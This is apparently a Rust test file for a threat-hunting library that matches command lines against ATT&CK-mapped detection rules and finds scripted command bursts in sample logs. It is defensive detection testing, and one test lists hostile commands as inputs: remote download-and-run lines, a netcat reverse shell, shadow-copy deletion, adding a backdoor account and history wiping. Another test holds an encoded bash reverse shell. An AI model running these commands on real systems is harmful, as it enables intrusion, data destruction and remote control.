//! Risky command lines and command speed, on msticpy's sudo data and on known attack commands.

// Test helpers outside #[test] functions unwrap too: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use std::time::Duration;

use huntbook_analysis::cmdline::{RiskyOptions, RuleSet, check_command, cmd_speed, risky_cmd_line};
use huntbook_testkit::shared_data;
use polars::prelude::*;

fn read_csv(rel: &str) -> Option<DataFrame> {
    let Some(path) = shared_data(rel) else {
        eprintln!("skipping: shared test data {rel} is not available");
        return None;
    };
    let df = CsvReadOptions::default()
        .with_has_header(true)
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(path))
        .unwrap()
        .finish()
        .unwrap();
    Some(df)
}

/// msticpy's `risky_cmd_line(sudo_data, "Syslog", cmd_field="Command")` flags one command,
/// `/bin/bash`; msticpy's rules alone give the same here.
#[test]
fn msticpy_rules_flag_the_same_sudo_commands() {
    let Some(df) = read_csv("logs/msticpy/sudo_data.csv") else {
        return;
    };
    let opts = RiskyOptions::default().with_rules(RuleSet::msticpy().unwrap());
    let out = risky_cmd_line(&df, "Command", &opts).unwrap();
    assert_eq!(out.height(), 1);
    let cmd = out.column("Command").unwrap().str().unwrap().get(0);
    assert_eq!(cmd, Some("/bin/bash"));
    assert_eq!(
        out.column("rule_id").unwrap().str().unwrap().get(0),
        Some("msticpy-syslog-5")
    );
    assert_eq!(out.width(), df.width() + 8);
}

#[test]
fn sudo_session_commands_with_all_rules() {
    let Some(df) = read_csv("logs/msticpy/sudo_session_test.csv") else {
        return;
    };
    let out = risky_cmd_line(&df, "Command", &RiskyOptions::default()).unwrap();
    let commands: Vec<&str> = out
        .column("Command")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .collect();
    assert!(commands.contains(&"/bin/bash"), "{commands:?}");

    let all = risky_cmd_line(
        &df,
        "Command",
        &RiskyOptions::default().with_keep_all_rows(true),
    )
    .unwrap();
    assert_eq!(all.height(), df.height());
}

#[test]
fn attack_commands_get_their_techniques() {
    let cases = [
        (
            "certutil.exe -urlcache -split -f http://198.51.100.3/a.exe a.exe",
            "T1105",
        ),
        (
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
            "T1218.011",
        ),
        (
            "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "T1027.010",
        ),
        ("vssadmin.exe Delete Shadows /All /Quiet", "T1490"),
        ("wmic shadowcopy delete", "T1490"),
        (
            "bitsadmin /transfer job /download /priority high http://198.51.100.3/a.exe C:\\a.exe",
            "T1197",
        ),
        ("mshta http://198.51.100.3/payload.hta", "T1218.005"),
        (
            "regsvr32 /s /n /u /i:http://198.51.100.3/file.sct scrobj.dll",
            "T1218.010",
        ),
        (
            "schtasks /create /tn upd /tr \\\\198.51.100.3\\share\\u.exe /sc minute",
            "T1053.005",
        ),
        ("net user backdoor P@ssw0rd! /add", "T1136.001"),
        ("curl -fsSL http://203.0.113.5/i.sh | bash", "T1059.004"),
        ("wget -q -O- http://203.0.113.5/i.sh | sh", "T1059.004"),
        ("chmod +x /tmp/.x", "T1222.002"),
        (
            "echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh",
            "T1140",
        ),
        ("nc -e /bin/sh 203.0.113.5 4444", "T1059.004"),
        ("history -c", "T1070.003"),
    ];
    let opts = RiskyOptions::default();
    for (cmd, technique) in cases {
        let hit = check_command(cmd, &opts);
        let techniques: Vec<String> = hit
            .rule_ids
            .iter()
            .filter_map(|id| opts.rules.rules().iter().find(|r| &r.id == id))
            .filter_map(|r| r.technique.clone())
            .collect();
        assert!(
            techniques.iter().any(|t| t == technique),
            "{cmd}: {techniques:?}"
        );
    }
    assert!(!check_command("ls -la /home/bob", &opts).is_match());
    assert!(!check_command("git status", &opts).is_match());
}

/// Base64 in a command is decoded and matched: the OTRF log4shell payload.
#[test]
fn decoded_base64_is_matched_too() {
    let cmd = "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";
    let hit = check_command(cmd, &RiskyOptions::default());
    assert_eq!(
        hit.decoded.as_deref(),
        Some("bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n")
    );
    assert!(
        hit.rule_ids.iter().any(|r| r == "HB-LNX-005"),
        "{:?}",
        hit.rule_ids
    );
    assert!(
        hit.rule_ids.iter().any(|r| r == "HB-LNX-004"),
        "{:?}",
        hit.rule_ids
    );
    let plain = check_command(cmd, &RiskyOptions::default().with_decode_base64(false));
    assert!(!plain.rule_ids.iter().any(|r| r == "HB-LNX-005"));
}

#[test]
fn missing_column_is_a_clear_error() {
    let df = DataFrame::new(1, vec![Column::new("cmd".into(), ["ls"])]).unwrap();
    let err = risky_cmd_line(&df, "Command", &RiskyOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("\"Command\"") && err.contains("cmd"), "{err}");
}

fn timed_frame(times: &[&str], commands: &[&str]) -> DataFrame {
    DataFrame::new(
        times.len(),
        vec![
            Column::new("TimeGenerated".into(), times),
            Column::new("Command".into(), commands),
        ],
    )
    .unwrap()
}

#[test]
fn cmd_speed_finds_scripted_bursts() {
    let mut times = Vec::new();
    let mut commands = Vec::new();
    // 12 commands 200 ms apart (a script), then 5 typed 20 s apart, then an empty one.
    for i in 0..12 {
        times.push(format!("2024-05-01 10:00:00.{:03}", i * 80));
        commands.push(format!("cmd{i}"));
    }
    for i in 0..5 {
        times.push(format!("2024-05-01 10:{:02}:00", 10 + i));
        commands.push(format!("typed{i}"));
    }
    times.push("2024-05-01 10:00:00.500".into());
    commands.push(String::new());
    let t: Vec<&str> = times.iter().map(String::as_str).collect();
    let c: Vec<&str> = commands.iter().map(String::as_str).collect();
    // Shuffle the frame order: cmd_speed sorts by time itself.
    let mut df = timed_frame(&t, &c);
    df = df.reverse();

    let out = cmd_speed(&df, "TimeGenerated", "Command", 10, Duration::from_secs(5)).unwrap();
    assert_eq!(out.height(), 12);
    let ids: Vec<Option<u32>> = out
        .column("burst_id")
        .unwrap()
        .u32()
        .unwrap()
        .iter()
        .collect();
    assert!(ids.iter().all(|i| *i == Some(1)));
    assert_eq!(
        out.column("burst_size").unwrap().u32().unwrap().get(0),
        Some(12)
    );
    let first = out.column("Command").unwrap().str().unwrap().get(0);
    assert_eq!(first, Some("cmd0"));

    assert!(cmd_speed(&df, "TimeGenerated", "Command", 1, Duration::from_secs(5)).is_err());
    let none = cmd_speed(
        &df,
        "TimeGenerated",
        "Command",
        3,
        Duration::from_millis(100),
    )
    .unwrap();
    assert_eq!(none.height(), 0);
}

/// msticpy's syslog_data.csv logs minutes only and its rows are not in time order. msticpy
/// reports 10 "fast" windows of 10 here, all from negative spans where the frame order jumps
/// back in time; sorted, no minute holds 10 messages, and groups of 3 in one minute-stamp are
/// found.
#[test]
fn cmd_speed_on_msticpy_syslog() {
    let Some(df) = read_csv("logs/msticpy/syslog_data.csv") else {
        return;
    };
    let ten = cmd_speed(
        &df,
        "TimeGenerated",
        "SyslogMessage",
        10,
        Duration::from_secs(5),
    )
    .unwrap();
    assert_eq!(ten.height(), 0);

    let three = cmd_speed(
        &df,
        "TimeGenerated",
        "SyslogMessage",
        3,
        Duration::from_secs(5),
    )
    .unwrap();
    assert!(three.height() >= 30, "{}", three.height());
    assert!(
        three
            .column("burst_seconds")
            .unwrap()
            .f64()
            .unwrap()
            .iter()
            .all(|s| s == Some(0.0))
    );
    let sizes = three.column("burst_size").unwrap().u32().unwrap();
    assert_eq!(sizes.iter().flatten().max(), Some(6));
}

/// msticpy's attack-simulation host: the technique rules pick out the attack commands and
/// leave the agent's own command lines alone.
#[test]
fn windows_attack_commands_on_msticpy_host() {
    let Some(df) = read_csv("logs/msticpy/processes_on_host.csv") else {
        return;
    };
    let out = risky_cmd_line(&df, "CommandLine", &RiskyOptions::default()).unwrap();
    let rules: Vec<&str> = out
        .column("rule_id")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .collect();
    for want in [
        "HB-WIN-001",
        "HB-WIN-003",
        "HB-WIN-004",
        "HB-WIN-007",
        "HB-WIN-013",
        "HB-WIN-015",
    ] {
        assert!(rules.contains(&want), "{want} not found in {rules:?}");
    }
    assert!(
        out.height() <= 25,
        "{} of {} rows flagged",
        out.height(),
        df.height()
    );
    let decoded: Vec<&str> = out
        .column("decoded_cmd")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .collect();
    assert!(!decoded.is_empty(), "the -enc command should be decoded");
}

/// OTRF's APT simulator (Cobalt Strike named-pipe getsystem), mapped to 4688 columns.
#[test]
fn cobalt_strike_named_pipe_service() {
    let Some(df) =
        read_csv("logs/otrf-mapped/proctree_aptsimulator_cobaltstrike_security_4688.csv")
    else {
        return;
    };
    let out = risky_cmd_line(&df, "CommandLine", &RiskyOptions::default()).unwrap();
    let techniques: Vec<&str> = out
        .column("technique")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .collect();
    assert!(techniques.contains(&"T1134.001"), "{techniques:?}");
    let all: Vec<&str> = out
        .column("matched_rules")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .collect();
    assert!(all.iter().any(|r| r.contains("HB-WIN-025")), "{all:?}");
}
